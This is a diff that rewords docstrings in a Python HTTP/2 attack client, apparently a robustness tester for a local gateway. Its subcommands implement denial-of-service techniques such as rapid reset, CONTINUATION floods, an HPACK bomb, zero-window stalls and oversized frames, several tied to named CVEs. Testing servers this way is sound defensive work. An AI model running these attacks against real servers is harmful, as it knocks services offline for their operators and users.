@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""A hostile HTTP/2 client: frames by hand, each attack a subcommand. Prints as JSON what the server made of it.
+"""A hostile HTTP/2 client that composes frames itself; each attack is a subcommand. Prints the server's reaction as JSON.
 
     h2raw.py unix:/run/gateway.sock rapid-reset --count 2000
     h2raw.py unix:/run/gateway.sock zero-window --target '/bytes?size=1000000' --deadline 5
@@ -74,7 +74,7 @@ def request(options, stream, method=b"GET", ends=True):
 
 
 class Raw:
-    """A connection that notes everything the server says, and answers nothing by itself but SETTINGS."""
+    """A connection that records everything the server sends, and acknowledges SETTINGS only."""
 
     def __init__(self, options):
         self.options = options
@@ -96,12 +96,12 @@ class Raw:
         self.acknowledges = True
 
     def send(self, data):
-        """Reads while it writes, so that neither end waits for the other; stops where the server has closed."""
+        """Reads while it writes, so that neither end waits for the other; stops if the server has closed."""
         self._write(data)
         self._acknowledge()
 
     def _acknowledge(self):
-        """Between frames only: never before the preface, never into a frame that was left half."""
+        """Sends between frames only: not before the preface, and not within an unfinished frame."""
         if self.acknowledges and self.owed:
             owed, self.owed = self.owed, b""
             self._write(owed)
@@ -120,12 +120,12 @@ class Raw:
                     self.drain()
 
     def drain(self):
-        """The server refuses our bytes; what it said before that may still be there."""
+        """The server refuses more bytes; data that it sent before may still be readable."""
         while not self.closed:
             self.receive()
 
     def observe(self):
-        """Until the server closes or the time is up."""
+        """Reads until the server closes or the time is up."""
         deadline = self.start + self.options.deadline
         while not self.closed and time.monotonic() < deadline:
             if select.select([self.stream], [], [], max(0, deadline - time.monotonic()))[0]:
@@ -179,14 +179,14 @@ class Raw:
 
 @attack
 def polite(raw, options):
-    """One ordinary request: the check that this client is right where the server is."""
+    """Sends one ordinary request, to check the client itself."""
     raw.hello()
     raw.send(request(options, 1))
 
 
 @attack
 def rapid_reset(raw, options):
-    """Opens streams and cancels each at once (CVE-2023-44487)."""
+    """Opens streams and cancels each immediately (CVE-2023-44487)."""
     raw.hello()
     for number in range(options.count):
         stream = 2 * number + 1
@@ -216,7 +216,7 @@ def ping_flood(raw, options):
 
 @attack
 def empty_data_flood(raw, options):
-    """DATA frames that carry nothing (CVE-2019-9518)."""
+    """Sends DATA frames without content (CVE-2019-9518)."""
     raw.hello()
     raw.send(request(options, 1, b"POST", ends=False))
     raw.send(frame(DATA, 0, 1) * options.count)
@@ -224,7 +224,7 @@ def empty_data_flood(raw, options):
 
 @attack
 def tiny_data_flood(raw, options):
-    """A body of one byte in each DATA frame."""
+    """Sends a body with one byte in each DATA frame."""
     raw.hello()
     raw.send(request(options, 1, b"POST", ends=False))
     raw.send(frame(DATA, 0, 1, b"x") * options.count)
@@ -232,7 +232,7 @@ def tiny_data_flood(raw, options):
 
 @attack
 def dribble(raw, options):
-    """A body that is asked for byte by byte (CVE-2019-9511)."""
+    """Requests a body and opens the window byte by byte (CVE-2019-9511)."""
     raw.hello((INITIAL_WINDOW_SIZE, 1))
     raw.send(request(options, 1))
     for _ in range(options.count):
@@ -241,7 +241,7 @@ def dribble(raw, options):
 
 @attack
 def endless_continuation(raw, options):
-    """A header block that never ends (CVE-2024-27316)."""
+    """Sends a header block that never ends (CVE-2024-27316)."""
     raw.hello()
     raw.acknowledges = False
     raw.send(frame(HEADERS, END_STREAM, 1, request_block(options)))
@@ -251,7 +251,7 @@ def endless_continuation(raw, options):
 
 @attack
 def huge_field_list(raw, options):
-    """One whole header block of `size` bytes, in as many frames as it needs."""
+    """Sends a complete header block of `size` bytes, in as many frames as it needs."""
     block = request_block(options) + b"".join(literal(b"x-%d" % n, b"v" * 1000) for n in range(options.size // 1000))
     parts = [block[at:at + 16_384] for at in range(0, len(block), 16_384)]
     frames = b""
@@ -264,7 +264,7 @@ def huge_field_list(raw, options):
 
 @attack
 def hpack_bomb(raw, options):
-    """A small block that unfolds: one large table entry, referred to again and again."""
+    """Sends a small block that decodes to a large one: one large table entry, referenced repeatedly."""
     entry = b"\x40" + integer(6, 7) + b"x-bomb" + integer(4000, 7) + b"v" * 4000
     raw.hello()
     raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(options) + entry + b"\xbe" * 10_000))
@@ -272,7 +272,7 @@ def hpack_bomb(raw, options):
 
 @attack
 def zero_window(raw, options):
-    """Asks for bodies and never opens the window for them."""
+    """Requests bodies and never opens the window for them."""
     raw.hello((INITIAL_WINDOW_SIZE, 0))
     for number in range(options.streams):
         raw.send(request(options, 2 * number + 1))
@@ -280,7 +280,7 @@ def zero_window(raw, options):
 
 @attack
 def deaf(raw, options):
-    """Asks for bodies, opens every window for them, and does not read the connection."""
+    """Requests bodies, opens every window for them, and does not read the connection."""
     raw.hello((INITIAL_WINDOW_SIZE, (1 << 31) - 1))
     raw.send(frame(WINDOW_UPDATE, 0, 0, ((1 << 31) - (1 << 16)).to_bytes(4, "big")))
     for number in range(options.streams):
@@ -290,7 +290,7 @@ def deaf(raw, options):
 
 @attack
 def slow_preface(raw, options):
-    """The preface, a byte every 100 ms."""
+    """Sends the preface, one byte every 100 ms."""
     for byte in PREFACE + settings() + request(options, 1):
         raw.send(bytes([byte]))
         time.sleep(0.1)
@@ -303,7 +303,7 @@ def idle(raw, options):
 
 @attack
 def mute(raw, options):
-    """Connects and says nothing."""
+    """Connects and sends nothing."""
 
 
 @attack
@@ -318,7 +318,7 @@ def http1_instead(raw, options):
 
 @attack
 def half_frame(raw, options):
-    """The first half of a HEADERS frame, then silence."""
+    """Sends the first half of a HEADERS frame, then nothing."""
     raw.hello()
     raw.acknowledges = False
     whole = request(options, 1)
@@ -327,7 +327,7 @@ def half_frame(raw, options):
 
 @attack
 def half_block(raw, options):
-    """HEADERS without END_HEADERS, then silence: a header block that is awaited."""
+    """Sends HEADERS without END_HEADERS, then nothing: an unfinished header block."""
     raw.hello()
     raw.acknowledges = False
     raw.send(frame(HEADERS, END_STREAM, 1, request_block(options)))
@@ -335,14 +335,14 @@ def half_block(raw, options):
 
 @attack
 def half_upload(raw, options):
-    """Half a body, then silence."""
+    """Sends half a body, then nothing."""
     raw.hello()
     raw.send(request(options, 1, b"POST", ends=False) + frame(DATA, 0, 1, b"x" * 1000))
 
 
 @attack
 def overflow_connection(raw, options):
-    """More DATA than the connection window allows, whatever the server grants meanwhile."""
+    """Sends more DATA than the connection window allows, even after updates from the server."""
     raw.hello()
     raw.send(request(options, 1, b"POST", ends=False))
     for _ in range(options.size // 16_384):
@@ -351,14 +351,14 @@ def overflow_connection(raw, options):
 
 @attack
 def overflow_window_update(raw, options):
-    """A window beyond 2^31-1 (RFC 9113 §6.9.1)."""
+    """Opens a window beyond 2^31-1 (RFC 9113 §6.9.1)."""
     raw.hello()
     raw.send(frame(WINDOW_UPDATE, 0, 0, (0x7FFF_FFFF).to_bytes(4, "big")) * 2)
 
 
 @attack
 def too_many_streams(raw, options):
-    """More streams at once than the server allows, none of them ended."""
+    """Opens more concurrent streams than the server allows, and ends none of them."""
     raw.hello()
     for number in range(options.count):
         raw.send(request(options, 2 * number + 1, b"POST", ends=False))
@@ -366,14 +366,14 @@ def too_many_streams(raw, options):
 
 @attack
 def large_frame(raw, options):
-    """A frame beyond SETTINGS_MAX_FRAME_SIZE."""
+    """Sends a frame larger than SETTINGS_MAX_FRAME_SIZE."""
     raw.hello()
     raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, bytes(1 << 20)))
 
 
 @attack
 def connection_fields(raw, options):
-    """Fields that belong to HTTP/1.1 connections (RFC 9113 §8.2.2): the raw material of smuggling."""
+    """Sends fields of HTTP/1.1 connections (RFC 9113 §8.2.2), as in request smuggling."""
     raw.hello()
     block = request_block(options) + literal(b"transfer-encoding", b"chunked")
     raw.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
